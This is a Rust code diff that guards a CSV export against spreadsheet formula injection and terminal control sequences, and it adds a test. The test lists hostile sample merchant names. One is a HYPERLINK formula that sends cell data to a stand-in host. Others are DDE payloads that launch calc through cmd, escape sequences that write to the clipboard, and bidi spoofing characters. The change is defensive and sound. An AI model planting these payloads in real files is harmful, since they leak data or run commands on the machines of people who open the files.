@@ -54,7 +54,7 @@ pub fn csv<'a>(
     w.write_record(CSV_HEADER).map_err(io::Error::other)?;
     for r in items {
         let m = merchants.get(&r.merchant_id);
-        w.write_record([
+        let cells = [
             r.id.as_str(),
             r.status.as_str(),
             r.kind.as_str(),
@@ -71,10 +71,24 @@ pub fn csv<'a>(
                 Some(_) => "false",
                 None => "",
             },
-        ])
-        .map_err(io::Error::other)?;
+        ];
+        w.write_record(cells.map(spreadsheet_cell))
+            .map_err(io::Error::other)?;
     }
     w.flush()
+}
+
+/// A cell as a spreadsheet opens it: cleaned as terminal text is, and one a
+/// spreadsheet would run as a formula (starting `=`, `+`, `-`, `@`, tab or
+/// carriage return) starts with `'`, as OWASP advises against CSV
+/// injection. Scripts that need the exact values read `--json`.
+pub fn spreadsheet_cell(raw: &str) -> String {
+    let cleaned = crate::text::clean(raw);
+    let formula = |c: Option<char>| matches!(c, Some('=' | '+' | '-' | '@' | '\t' | '\r'));
+    match formula(raw.chars().next()) || formula(cleaned.chars().next()) {
+        true => format!("'{cleaned}"),
+        false => cleaned,
+    }
 }
 
 /// A timestamp for a CSV cell; one the server left out is an empty cell, as
@@ -232,6 +246,60 @@ mod tests {
             test: true,
         };
         HashMap::from([(m.id.clone(), m)])
+    }
+
+    /// Names a merchant could type: escapes, a bell, bidi and invisible
+    /// characters, and formulas a spreadsheet would run.
+    pub(crate) const HOSTILE: [&str; 8] = [
+        "=HYPERLINK(\"http://x.test/?leak=\"&A1,\"Open\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "\tTabbed",
+        "Clear\u{1b}[2J\u{1b}]52;c;aGk=\u{7}me\u{8}\u{9b}31m",
+        "Cafe \u{202E}gnp.exe\u{202C} Ltd",
+        "Zero\u{200B}width\u{FEFF}\u{2066}Ltd",
+    ];
+
+    #[test]
+    fn no_csv_cell_carries_a_control_an_invisible_character_or_a_live_formula() {
+        let items: Vec<IntegrationRequest> = (0..HOSTILE.len())
+            .map(|i| request(&format!("r{i}"), &format!("m{i}"), Some("=1+1")))
+            .collect();
+        let merchants: Merchants = HOSTILE
+            .iter()
+            .enumerate()
+            .map(|(i, name)| {
+                let m = Merchant {
+                    id: format!("m{i}"),
+                    account_id: None,
+                    name: name.to_string(),
+                    country: None,
+                    test: false,
+                };
+                (m.id.clone(), m)
+            })
+            .collect();
+        let mut out = Vec::new();
+        csv(&mut out, &items, &merchants).expect("write");
+        let text = String::from_utf8(out.clone()).expect("utf-8");
+        for c in text.chars() {
+            let record_end = c == '\n';
+            assert!(record_end || !c.is_control(), "{c:?} in {text}");
+            assert!(crate::text::pasteable(c) || record_end, "{c:?} in {text}");
+        }
+        let mut reader = ::csv::Reader::from_reader(out.as_slice());
+        for row in reader.records() {
+            for cell in row.expect("a row").iter() {
+                assert!(
+                    !matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r')),
+                    "a live formula: {cell:?}"
+                );
+            }
+        }
+        // What the operator sees is still there, marked: not dropped.
+        assert!(text.contains("'=HYPERLINK"), "{text}");
+        assert!(text.contains("Clear␛[2J"), "{text}");
     }
 
     #[test]
